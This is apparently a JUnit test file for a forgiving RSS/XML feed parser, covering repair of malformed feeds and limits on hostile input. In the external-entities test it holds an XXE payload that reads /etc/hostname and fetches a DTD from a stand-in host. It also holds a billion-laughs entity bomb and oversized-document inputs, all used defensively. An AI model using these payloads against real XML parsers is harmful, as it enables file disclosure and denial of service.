package news.naba.ingest.feed.xml;

import static java.util.stream.Collectors.toSet;
import static org.assertj.core.api.Assertions.assertThat;

import java.util.EnumSet;
import java.util.List;
import java.util.Set;
import news.naba.ingest.feed.model.Repair;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;

class XmlReaderTest {
  private static final int MANY = 1_000;

  private final Set<Repair> repairs = EnumSet.noneOf(Repair.class);

  @Test
  void aWellFormedDocumentNeedsNoRepair() {
    assertThat(titles("<rss><item><title>a &amp; b</title></item></rss>")).containsExactly("a & b");
    assertThat(repairs).isEmpty();
  }

  @Test
  void entitiesOfHtmlAreKnownWithoutADtd() {
    assertThat(titles("<rss><item><title>a&nbsp;b &laquo;c&raquo; &amp;</title></item></rss>"))
        .containsExactly("a\u00a0b «c» &");
    assertThat(repairs).containsExactly(Repair.HTML_ENTITIES);
  }

  @Test
  void bareAmpersandsAndUnclosedTagsAreForgiven() {
    assertThat(titles("<rss><item><title>AT&T <b>x</title><link>/?a=1&b=2</item></rss>"))
        .containsExactly("AT&T x");
    assertThat(repairs).containsExactly(Repair.ILL_FORMED);
  }

  @Test
  void ofATruncatedDocumentTheWholeItemsAreKept() {
    String whole = "<rss><channel><item><title>1</title></item><item><title>2</title></item>";

    assertThat(titles(whole + "<item><title>3</title><descr")).containsExactly("1", "2");
    assertThat(repairs).containsExactly(Repair.TRUNCATED);
  }

  @Test
  void ofADocumentTruncatedInItsFirstItemTheChannelIsKept() {
    XmlElement root = read("<rss><channel><title>t</title><item><title>1</ti");

    assertThat(root.elements().get(0).elements())
        .extracting(XmlElement::name)
        .containsExactly("title");
    assertThat(repairs).containsExactly(Repair.TRUNCATED);
  }

  @Test
  void whatStandsBeforeTheDocumentIsPassedOver() {
    assertThat(
            titles(
                "<br />\n<b>Warning</b>: include(): failed in /a.php\n"
                    + "<?xml version=\"1.0\"?><rss><item><title>1</title></item></rss>"))
        .containsExactly("1");
    assertThat(repairs).containsExactly(Repair.LEADING_JUNK);
  }

  @Test
  void controlCharactersAreTakenOutOrReadAsWhatTheyWereMeantFor() {
    assertThat(titles("<rss><item><title>a\u0000b\u000bc \u0093d&#148;</title></item></rss>"))
        .containsExactly("a b c “d”");
    assertThat(repairs).contains(Repair.CONTROL_CHARACTERS);
  }

  @Test
  void prefixesWithoutDeclarationMeanWhatEverybodyMeans() {
    XmlElement item =
        read("<rss><item><dc:date>x</dc:date><zz:date>y</zz:date></item></rss>").elements().get(0);

    assertThat(item.elements())
        .extracting(XmlElement::namespace)
        .containsExactly(Namespace.DUBLIN_CORE, Namespace.OTHER);
  }

  @Test
  void aPrefixMeansWhatItIsDeclaredToMean() {
    XmlElement root =
        read("<x:rss xmlns:x='http://purl.org/rss/1.0/' xmlns:dc='urn:else'><dc:date/></x:rss>");

    assertThat(root.namespace()).isEqualTo(Namespace.NATIVE);
    assertThat(root.elements().get(0).namespace()).isEqualTo(Namespace.OTHER);
  }

  @Test
  void externalEntitiesAndDtdsAreNeverRead() {
    String xxe =
        "<!DOCTYPE rss SYSTEM \"http://192.0.2.1/evil.dtd\""
            + " [<!ENTITY x SYSTEM \"file:///etc/hostname\"> <!ENTITY % p SYSTEM \"http://192.0.2.1/p\"> %p;]>"
            + "<rss><item><title>&x;</title></item></rss>";

    assertThat(titles(xxe)).containsExactly("&x;");
    assertThat(repairs).contains(Repair.DOCTYPE_IGNORED);
  }

  @Test
  @Timeout(5)
  void aBillionLaughsAreNotLaughed() {
    StringBuilder bomb = new StringBuilder("<!DOCTYPE rss [<!ENTITY a0 \"ha\">");
    for (int i = 1; i < 30; i++) {
      bomb.append("<!ENTITY a%d \"&a%d;&a%d;\">".formatted(i, i - 1, i - 1));
    }
    bomb.append("]><rss><item><title>&a29;</title></item></rss>");

    assertThat(titles(bomb.toString())).containsExactly("&a29;");
  }

  @Test
  @Timeout(10)
  void ofAMillionItemsOnlyThoseAskedForAreRead() {
    String bomb = "<rss><channel>" + "<item><title>x</title></item>".repeat(1_000_000);

    assertThat(titles(bomb)).hasSize(MANY);
    assertThat(repairs).contains(Repair.ITEM_LIMIT);
  }

  @Test
  @Timeout(10)
  void ofAMillionIllFormedItemsOnlyThoseAskedForAreRead() {
    String bomb =
        "<rss><channel>"
            + "<item><title>x & y</title></item>".repeat(1_000_000)
            + "</channel></rss>";

    assertThat(titles(bomb)).hasSize(MANY);
  }

  @Test
  @Timeout(10)
  void depthIsBounded() {
    int depth = 200_000;
    String deep = "<a>".repeat(depth) + "x" + "</a>".repeat(depth);

    XmlElement root = read("<rss><item><title>1</title>" + deep + "</item></rss>");

    assertThat(root.text()).isEqualTo("1");
  }

  @Test
  @Timeout(10)
  void manyAttributesAndAnEndlessNameCostLittle() {
    StringBuilder wide = new StringBuilder("<rss ");
    for (int i = 0; i < 100_000; i++) {
      wide.append("a").append(i).append("='1' ");
    }
    wide.append("><item><title>1</title><").append("n".repeat(1_000_000)).append("/></item></rss>");

    assertThat(titles(wide.toString())).containsExactly("1");
  }

  @Test
  void aDocumentWithoutElementsIsNone() {
    assertThat(XmlReader.read("no markup", MANY, repairs)).isEmpty();
    assertThat(XmlReader.read("", MANY, repairs)).isEmpty();
  }

  @Test
  void repairsAreNamedByOneWordEach() {
    assertThat(List.of(Repair.values()).stream().map(Repair::code).collect(toSet()))
        .contains("charset-overruled", "leading-junk", "html-entities", "truncated", "item-limit");
  }

  private XmlElement read(String text) {
    return XmlReader.read(text, MANY, repairs).orElseThrow();
  }

  private List<String> titles(String text) {
    return titles(read(text));
  }

  private static List<String> titles(XmlElement element) {
    return element.elements().stream()
        .flatMap(
            child ->
                child.key().equals("title")
                    ? List.of(child.text()).stream()
                    : titles(child).stream())
        .toList();
  }
}
